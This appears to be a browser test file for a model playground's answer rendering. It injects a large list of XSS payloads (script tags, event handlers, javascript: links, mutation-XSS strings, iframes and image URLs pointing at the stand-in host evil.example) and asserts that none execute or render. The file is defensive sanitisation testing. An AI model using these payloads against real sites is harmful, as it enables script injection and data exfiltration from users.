'use strict';

// What models, callers and providers write is hostile: shown anywhere, it fires nothing, fetches nothing and leads nowhere.
// The provider of these tests says again what it was told.

const { assert, chat, open, settle, test } = require('./browser.cjs');

const { speak } = require('./talk.cjs');

// fire() is what every payload tries to call, and evil.example where it tries to fetch from. Those in one group are parts of one
// answer; those that leave something open are answers by themselves.
const payloads = {
  scripts: [
    '<script>fire()</script>', '<script src="https://evil.example/x.js"></script>', '<ScRiPt >fire()</sCrIpT>', '<script/src=//evil.example/x.js></script>',
    '```html\n<script>fire()</script>\n```', '`<script>fire()</script>`', '<scr<script>ipt>fire()</scr</script>ipt>',
  ],
  handlers: [
    '<img src=x onerror=fire()>', '<img src="https://evil.example/i.png">', '<svg onload=fire()>', '<svg><script>fire()</script></svg>',
    '<svg><animate onbegin=fire() attributeName=x dur=1s>', '<body onload=fire()>', '<details open ontoggle=fire()>x</details>',
    '<input autofocus onfocus=fire()>', '<video src=x onerror=fire()><source onerror=fire()></video>', '<audio src="https://evil.example/a.mp3" autoplay>',
    '<marquee onstart=fire()>x</marquee>', '<div onpointerenter=fire() style="position:fixed;inset:0">x</div>', '<a href=x onmouseover=fire()>x</a>',
  ],
  frames: [
    '<iframe src="https://evil.example/"></iframe>', '<iframe srcdoc="<script>parent.fire()</script>"></iframe>', '<object data="https://evil.example/o"></object>',
    '<embed src="https://evil.example/e">', '<base href="https://evil.example/">', '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/s.css">', '<link rel=prefetch href="https://evil.example/p">', '<frameset><frame src="https://evil.example/f"></frameset>',
  ],
  styles: [
    '<style>@import "https://evil.example/s.css"; body { background: url(https://evil.example/b.png) }</style>',
    '<p style="background: url(https://evil.example/b.png)">x</p>', '<table background="https://evil.example/t.png"><tr><td>x</td></tr></table>',
    '<form action="https://evil.example/f"><input name=token><button formaction="https://evil.example/g">x</button></form>',
  ],
  links: [
    '[a](javascript:fire())', '[b](JaVaScRiPt:fire())', '[c](java\tscript:fire())', '[d](javascript&colon;fire())', '[e](&#106;avascript:fire())',
    '[f](data:text/html,<script>fire()</script>)', '[g](vbscript:fire())', '[h](blob:https://evil.example/x)', '[i](//evil.example/x)', '[j](/admin/v1/tenants)',
    '[k](file:///etc/passwd)', '<javascript:fire()>', '[l]: javascript:fire()\n\n[l]', '[m](https://evil.example/" onmouseover="fire())', '<a href="javascript:fire()">n</a>',
    '[o](https://evil.example/x "t\' onmouseover=fire()")', '[p](\u0001javascript:fire())', 'https://evil.example/"onmouseover="fire()',
  ],
  images: [
    '![a](https://evil.example/i.png?what=they+said)', '![b](data:image/svg+xml,<svg onload=fire()>)', '![c](javascript:fire())', '![d][e]\n\n[e]: https://evil.example/r.png',
    '[![f](https://evil.example/n.png)](javascript:fire())', '![" onerror="fire()](https://evil.example/x.png)', '![g](http://evil.example/plain.png)',
  ],
  mutation: [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=fire()&gt;">', '<svg></p><style><a id="</style><img src=1 onerror=fire()>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=fire()>', '<noscript><p title="</noscript><img src=x onerror=fire()>">',
    '<template><img src=x onerror=fire()></template>', '<xmp><img src=x onerror=fire()></xmp>', '<textarea><img title="</textarea><img src=x onerror=fire()>">',
    '<a id=app><a id=app name=root>', '<img name=getElementById>', '<div id=main>x</div>',
  ],
  open: ['<img src=x onerror=fire()'],
  comment: ['<!-- ><img src=x onerror=fire()>'],
  fence: ['```\n<img src=x onerror=fire()>'],
  table: ['| <img src=x onerror=fire()> | [x](javascript:fire()) |\n|:-:|--|\n| <svg onload=fire()> | ![y](https://evil.example/t.png) |'],
};

// harmless are the elements that an answer may be made of, and their attributes.
const harmless = /^(p|br|hr|h3|h4|h5|h6|strong|em|del|code|pre|blockquote|ul|ol|li|a|table|thead|tbody|tr|th|td|div)$/;
const attributes = { a: ['href', 'rel', 'target'], ol: ['start'], th: ['align'], td: ['align'], p: ['class'] };

// armed opens a page in which payloads have something to call.
async function armed(t, hash) {
  const page = await open(t, hash, { before: (context) => context.addInitScript(() => {
    window.fired = [];
    window.fire = (...what) => window.fired.push(String(what));
    window.alert = window.fire;
  }) });
  page.unharmed = async (what) => {
    assert.deepEqual(await page.evaluate(() => window.fired), [], what);
    assert.ok(new URL(page.url()).hash.startsWith(hash), what);
  };
  return page;
}

test('in the answers of a model', async (t) => {
  const page = await armed(t, '#/playground');
  const ask = await speak(page, 'gpt-4.1');
  for (const [name, list] of Object.entries(payloads)) {
    const text = list.join('\n\n');
    const answer = await ask(text);
    const found = await answer.locator('.markdown').evaluate((root) => [...root.querySelectorAll('*')].map((e) => ({
      name: e.localName, attributes: e.getAttributeNames(), href: e.getAttribute('href'), rel: e.getAttribute('rel'), target: e.getAttribute('target'),
    })));
    assert.ok(found.length > 0, `${name}: nothing is shown`);
    for (const e of found) {
      assert.match(e.name, harmless, name);
      assert.deepEqual(e.attributes.filter((a) => !(attributes[e.name] ?? []).includes(a)), [], `${name}: <${e.name}>`);
      if (e.name !== 'a') continue;
      assert.match(e.href, /^(https|mailto):/, name);
      assert.deepEqual([e.rel, e.target], ['noopener noreferrer', '_blank'], name);
    }
    for (const e of await answer.locator('.markdown *').all()) await e.dispatchEvent('pointerenter');
    await page.unharmed(name);
  }
});

test('after a reload', async (t) => {
  const page = await armed(t, '#/playground');
  const ask = await speak(page, 'gpt-4.1');
  await ask(payloads.handlers.join('\n\n'));
  await page.reload();
  await page.getByRole('article').first().waitFor();
  await page.unharmed('a reload');
});

test('in the names that callers give, and what providers say of their failures', async (t) => {
  const page = await armed(t, '#/requests');
  await settle(page);
  const name = '<img src=x onerror=fire()>';
  await chat(name, 'Hello');
  await chat('gpt-4.1-mini', 'Hello', { user: name });
  await chat('shaky', 'Hello');
  await page.getByRole('row').filter({ hasText: name }).first().click();
  await page.unharmed('requests');
});
